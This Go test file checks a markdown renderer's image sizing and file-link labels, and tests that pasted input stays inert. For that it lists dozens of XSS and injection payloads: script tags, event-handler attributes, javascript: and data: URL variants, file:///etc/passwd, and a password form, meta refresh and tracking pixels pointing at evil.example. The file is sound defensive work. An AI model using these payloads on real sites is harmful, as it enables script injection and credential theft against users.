package markdown_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"masterclass/internal/markdown"
)

var (
	picture  = "/files/" + strings.Repeat("ab", 32) + "/ward.jpg"
	small    = "/files/" + strings.Repeat("cd", 32) + "/ward.jpg"
	leaflet  = "/files/" + strings.Repeat("ef", 32) + "/leaflet.pdf"
	uploaded = map[string]markdown.File{
		picture: {Width: 1600, Height: 900, Small: small, SmallWidth: 640, Alt: `A "ward"`},
		leaflet: {Note: "PDF, 1.2 MB"},
	}
)

func TestAnUploadedImageHasItsSize(t *testing.T) {
	got, err := markdown.Page("![The ward at night]("+picture+` "x")`, uploaded)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`src="` + picture + `"`, `alt="The ward at night"`, `width="1600"`, `height="900"`, `loading="lazy"`,
		`srcset="` + small + " 640w, " + picture + ` 1600w"`, `sizes="(max-width: 44rem) 100vw, 44rem"`} {
		if !strings.Contains(string(got), want) {
			t.Errorf("%s is missing in %s", want, got)
		}
	}
	if got, _ = markdown.Page("![]("+picture+")", uploaded); !strings.Contains(string(got), `alt="A &#34;ward&#34;"`) {
		t.Errorf("an image without words is %s", got)
	}
}

func TestALinkToAFileSaysWhatItIs(t *testing.T) {
	got, err := markdown.Page("[The leaflet]("+leaflet+")", uploaded)
	if want := `<a href="` + leaflet + `">The leaflet (PDF, 1.2 MB)</a>`; err != nil || !strings.Contains(string(got), want) {
		t.Errorf("%s (%v)", got, err)
	}
}

// Nothing that an author can paste may run, load from elsewhere, or change the page around it: what the elements and attributes of the
// result are is read with a browser's own rules.
func TestEveryTrickIsInert(t *testing.T) {
	for _, source := range tricks() {
		got, err := markdown.Page(source, uploaded)
		if err != nil {
			t.Errorf("%q: %v", source, err)
			continue
		}
		root, err := html.Parse(strings.NewReader("<div>" + string(got) + "</div>"))
		if err != nil {
			t.Fatal(err)
		}
		for n := range root.Descendants() {
			if n.Type == html.ElementNode {
				harmless(t, source, n)
			}
		}
	}
}

func tricks() []string {
	list := []string{
		"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<svg onload=alert(1)>", "<svg><script>1</script></svg>", "<math><mi xlink:href=\"javascript:1\">x</mi></math>",
		"<img src=x onerror=alert(1)>", "<a href=\"javascript:1\">x</a>", "<a href=x onclick=1>x</a>", "<p style=\"position:fixed\">x</p>", "<style>*{display:none}</style>",
		"<iframe srcdoc=\"<script>1</script>\"></iframe>", "<object data=x></object>", "<embed src=x>", "<form action=//evil.example><input name=password></form>",
		"<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<video src=//evil.example/v>",
		"<noscript><p title=\"</noscript><img src=x onerror=1>\">", "<template><script>1</script></template>", "<!--><script>1</script>-->", "<![CDATA[<script>1</script>]]>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>", "<a href='x' id=maincontent class=nhsuk-button>x</a>", "</div></main><h1>Fooled</h1>", "<details open ontoggle=1>x</details>",
		"![x](https://evil.example/pixel.gif)", "![x](//evil.example/pixel.gif)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](data:image/png;base64,AAAA)", "![x](javascript:1)",
		"![x](/files/" + strings.Repeat("00", 32) + "/unknown.png)", "![x](/organise/sign-out)", "![\"onerror=\"alert(1)](" + picture + ")", "![x](" + picture + " \"\\\" onerror=\\\"alert(1)\")",
		"![<script>1</script>](" + picture + ")", "![x][r]\n\n[r]: javascript:1", "[x][r]\n\n[r]: javascript:alert(1) \"t\"", "<javascript:alert(1)>", "[x](<javascript:alert(1)>)",
		"| <img src=x onerror=1> |\n|---|\n| [x](javascript:1) |", "# <script>1</script>", "`<script>`", "```html\n<script>1</script>\n```", "    <script>1</script>", "> <svg/onload=1>",
		"```\"><script>1</script>\nx\n```", "[x](https://evil.example/\"onmouseover=\"1)", "&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;", "[x](&#106;avascript:1)", "[x](java\nscript:1)",
		"x {onclick=alert(1)}", "# x {#id onclick=1}", "[x](" + leaflet + "){onclick=1}", "\x00<script>1</script>", "[![x](javascript:1)](javascript:2)", "[![x](" + picture + ")](vbscript:1)",
	}
	for _, scheme := range []string{"javascript:1", "JaVaScRiPt:1", " javascript:1", "\x01javascript:1", "java\tscript:1", "javascript&colon;1", "vbscript:1", "data:text/html,x", "file:///etc/passwd",
		"blob:https://x/1", "feed:javascript:1", "view-source:x", "%6aavascript:1"} {
		list = append(list, "[x]("+scheme+")", "<"+scheme+">", "[x](<"+scheme+">)")
	}
	return list
}

var (
	mayBe   = " html head body div p br hr h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong del table thead tbody tr th td a img "
	mayHave = " href rel start src srcset sizes width height alt loading tabindex "
)

func harmless(t *testing.T, source string, n *html.Node) {
	t.Helper()
	if !strings.Contains(mayBe, " "+n.Data+" ") {
		t.Errorf("%q makes <%s>", source, n.Data)
	}
	for _, a := range n.Attr {
		if !strings.Contains(mayHave, " "+a.Key+" ") {
			t.Errorf("%q makes %s=%q", source, a.Key, a.Val)
		}
		own := strings.HasPrefix(a.Val, "/files/")
		if (a.Key == "src" || a.Key == "srcset") && !own {
			t.Errorf("%q loads %q", source, a.Val)
		}
		if scheme, _, ok := strings.Cut(a.Val, ":"); a.Key == "href" && ok && !strings.Contains(" http https mailto tel ", " "+strings.ToLower(scheme)+" ") {
			t.Errorf("%q leads to %q", source, a.Val)
		}
	}
}
